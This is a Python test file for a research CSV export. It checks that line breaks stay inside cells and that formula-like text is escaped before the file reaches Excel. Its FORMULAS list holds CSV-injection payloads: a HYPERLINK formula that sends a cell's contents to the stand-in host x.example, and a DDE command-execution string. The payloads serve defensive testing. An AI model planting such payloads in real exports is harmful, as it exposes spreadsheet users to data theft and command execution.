"""Research exports: safe to open in Excel, keyed by participant id."""

from __future__ import annotations

import csv
import io
from typing import Any

from bot.domain.export import ExportOptions, write_csv
from bot.models import CheckinAnswer, Escalation, Message
from tests.conftest import START

FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"pain\")", "+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1+1"]


def _export(services: Any, kind: str) -> list[list[str]]:
    out = io.StringIO()
    with services.db.session() as session:
        write_csv(session, kind, out, ExportOptions(include_free_text=True))
    return list(csv.reader(io.StringIO(out.getvalue(), newline="")))


def test_a_carriage_return_in_a_text_stays_inside_its_cell(services, people):
    veteran = people["participant"]
    with services.db.session() as session:
        for body in ("first line\rsecond line", "pain 7\r\nwalked yes", "ok\n=1+1"):
            session.add(Message(direction="in", participant_id=veteran, phone="+12025550123",
                                body=body, kind="participant", status="received",
                                created_at=START))
    rows = _export(services, "messages")
    assert [len(row) for row in rows] == [len(rows[0])] * 4
    assert [row[4] for row in rows[1:]] == ["first line\rsecond line", "pain 7\r\nwalked yes",
                                            "ok\n=1+1"]


def test_cells_that_excel_would_run_as_formulas_are_neutralised(services, people):
    veteran = people["participant"]
    with services.db.session() as session:
        for i, text in enumerate(FORMULAS):
            session.add(Message(direction="in", participant_id=veteran, phone="+12025550123",
                                body=text, kind="participant", status="received",
                                created_at=START))
            session.add(CheckinAnswer(participant_id=veteran, flow_id="goal", variable="goal",
                                      value=text, answered_at=START))
            session.add(Escalation(participant_id=veteran, coach_id=people["coach"], kind="flow",
                                   reason=text, event_key=f"test:{i}", created_at=START))
        session.add(CheckinAnswer(participant_id=veteran, flow_id="checkin", variable="change",
                                  value="-2", answered_at=START))
    cells = {kind: [row[column] for row in _export(services, kind)[1:]]
             for kind, column in (("messages", 4), ("checkins", 3), ("escalations", 4))}
    for kind, values in cells.items():
        for text in FORMULAS:
            assert text not in values, (kind, text)
            assert "'" + text in values, (kind, text)
    assert "-2" in cells["checkins"]  # a plain number stays a number
